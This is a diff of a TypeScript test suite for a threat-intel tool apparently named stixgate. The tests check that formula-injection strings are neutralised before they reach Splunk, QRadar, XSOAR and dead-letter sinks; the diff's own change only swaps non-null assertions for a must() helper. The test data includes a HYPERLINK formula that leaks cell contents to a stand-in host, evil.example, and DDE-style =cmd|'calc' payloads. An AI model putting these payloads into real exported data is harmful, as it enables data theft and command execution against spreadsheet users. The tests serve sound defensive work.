@@ -36,6 +36,7 @@ import {
   runContext as xsoarRun,
   startSim as startXsoar,
 } from '../integrations/xsoar/test-kit.js';
+import { must } from './helpers/must.js';
 
 const LABELS = [
   '=HYPERLINK("http://evil.example/?x="&A1,"click")',
@@ -84,20 +85,20 @@ test('F4/A15 sink records: every mapped string neutralised (lists element-wise, 
     v: 'value',
     k: '=const',
   });
-  assert.deepEqual(r!.fields.l, NEUTRAL);
-  assert.equal(r!.fields.c, NEUTRAL.join(','));
-  assert.equal(r!.fields.n, "'=1+1");
-  assert.equal(r!.fields.d, "'@cmd");
-  assert.equal(r!.fields.v, '198.51.100.7');
-  assert.equal(r!.fields.k, 'const');
+  assert.deepEqual(must(r, 'r').fields.l, NEUTRAL);
+  assert.equal(must(r, 'r').fields.c, NEUTRAL.join(','));
+  assert.equal(must(r, 'r').fields.n, "'=1+1");
+  assert.equal(must(r, 'r').fields.d, "'@cmd");
+  assert.equal(must(r, 'r').fields.v, '198.51.100.7');
+  assert.equal(must(r, 'r').fields.k, 'const');
   assert.deepEqual(obj.labels, LABELS, 'the stored object keeps its labels verbatim');
   // a value that can begin with a trigger (an e-mail local part) is sent neutralised; its key is the canonical value's
   const [e] = recordsOf(indicator("-cmd|'calc'!a0@evil.example"), 1, 'upsert', undefined, { v: 'value' });
-  assert.equal(e!.observable.value, "'-cmd|'calc'!a0@evil.example");
-  assert.equal(e!.fields.v, e!.observable.value);
+  assert.equal(must(e, 'e').observable.value, "'-cmd|'calc'!a0@evil.example");
+  assert.equal(must(e, 'e').fields.v, must(e, 'e').observable.value);
   const [canon] = recordsOf(indicator('plain@evil.example'), 1, 'upsert', undefined, {});
-  assert.match(e!.key, /^[0-9a-f]{40}$/);
-  assert.notEqual(e!.key, canon!.key);
+  assert.match(must(e, 'e').key, /^[0-9a-f]{40}$/);
+  assert.notEqual(must(e, 'e').key, must(canon, 'canon').key);
 });
 
 test('F4/A15 splunk_kv: labels, name and description arrive neutralised in the stored KV document', async (t) => {
@@ -118,14 +119,14 @@ test('F4/A15 splunk_kv: labels, name and description arrive neutralised in the s
     },
     splunkIctx,
   );
-  await sink.prepare!(ctx);
+  await must(sink.prepare, 'sink.prepare')(ctx);
   const out = await sink.upsert(mappedRecords('splunk_kv', [hostile('198.51.100.7')]), ctx);
   assert.deepEqual(out, [{ status: 'ok' }]);
   const [doc] = sim.documents('stixgate', 'ti');
-  assert.equal(doc!.labels, NEUTRAL.join(','));
-  assert.equal(doc!.name, "'=1+1");
-  assert.equal(doc!.description, "'@cmd");
-  assert.equal(doc!.indicator, '198.51.100.7');
+  assert.equal(must(doc, 'doc').labels, NEUTRAL.join(','));
+  assert.equal(must(doc, 'doc').name, "'=1+1");
+  assert.equal(must(doc, 'doc').description, "'@cmd");
+  assert.equal(must(doc, 'doc').indicator, '198.51.100.7');
 });
 
 test('F4/A15 splunk_es: the threat-intel document carries neutralised text fields', async (t) => {
@@ -146,7 +147,7 @@ test('F4/A15 splunk_es: the threat-intel document carries neutralised text field
   await sink.prepare?.(ctx);
   assert.deepEqual(await sink.upsert(mappedRecords('splunk_es', [hostile('198.51.100.8')]), ctx), [{ status: 'ok' }]);
   const [doc] = sim.documents('DA-ESS-ThreatIntelligence', 'ip_intel');
-  const strings = Object.values(doc!).filter((v): v is string => typeof v === 'string');
+  const strings = Object.values(must(doc, 'doc')).filter((v): v is string => typeof v === 'string');
   assert.ok(
     strings.some((v) => v.startsWith("'")),
     JSON.stringify(doc),
@@ -163,7 +164,7 @@ test('F4/A15 splunk_hec: event fields neutralised', async (t) => {
   );
   assert.deepEqual(await sink.upsert(mappedRecords('splunk_hec', [hostile('198.51.100.9')]), ctx), [{ status: 'ok' }]);
   const [ev] = sim.events();
-  const event = ev!.event as Record<string, unknown>;
+  const event = must(ev, 'ev').event as Record<string, unknown>;
   const flat = JSON.stringify(event);
   assert.ok(
     flat.includes(JSON.stringify("'@SUM(1)").slice(1, -1)) ||
@@ -182,15 +183,15 @@ test('F4/A15 qradar: a formula-like e-mail value and a labels-mapped notes field
   const { sim, base } = await startQradar(t);
   const ctx = qradarRun(t);
   const sink = createQradarSink(qradarConfig(base), qradarIctx);
-  await sink.prepare!(ctx);
+  await must(sink.prepare, 'sink.prepare')(ctx);
   const recs = recordsOf(hostile("=cmd|'calc'!a0@evil.example"), 1, 'upsert', undefined, {
     source: '=stixgate',
     notes: 'labels_csv',
   });
   assert.deepEqual(await sink.upsert(recs, ctx), [{ status: 'ok' }]);
   const [el] = sim.elements('stixgate - Email Addresses');
-  assert.equal(el!.value, "'=cmd|'calc'!a0@evil.example");
-  assert.equal(el!.notes, NEUTRAL.join(','));
+  assert.equal(must(el, 'el').value, "'=cmd|'calc'!a0@evil.example");
+  assert.equal(must(el, 'el').notes, NEUTRAL.join(','));
 });
 
 test('F4/A15 xsoar: tags and the indicator fields arrive neutralised in the stored indicator', async (t) => {
@@ -199,8 +200,8 @@ test('F4/A15 xsoar: tags and the indicator fields arrive neutralised in the stor
   const sink = xsoarSink.create(xsoarConfig(base), xsoarIctx);
   assert.deepEqual(await sink.upsert(mappedRecords('xsoar', [hostile('198.51.100.10')]), ctx), [{ status: 'ok' }]);
   const [ind] = sim.indicators();
-  assert.deepEqual(ind!.CustomFields.tags, NEUTRAL);
-  assert.equal(ind!.value, '198.51.100.10');
+  assert.deepEqual(must(ind, 'ind').CustomFields.tags, NEUTRAL);
+  assert.equal(must(ind, 'ind').value, '198.51.100.10');
 });
 
 test('F4/A15 dead-letter lines: value and reason neutralised', () => {
@@ -208,7 +209,7 @@ test('F4/A15 dead-letter lines: value and reason neutralised', () => {
   try {
     const f = new DeadLetterFile(join(dir, 'dl.jsonl'));
     const [r] = recordsOf(indicator('=x@evil.example'), 7, 'upsert', undefined, {});
-    f.write('s', [{ record: r!, reason: '=HYPERLINK("x") refused' }], Date.UTC(2026, 0, 1));
+    f.write('s', [{ record: must(r, 'r'), reason: '=HYPERLINK("x") refused' }], Date.UTC(2026, 0, 1));
     const line = JSON.parse(readFileSync(join(dir, 'dl.jsonl'), 'utf8').trim());
     assert.equal(line.value, "'=x@evil.example");
     assert.equal(line.reason, '\'=HYPERLINK("x") refused');
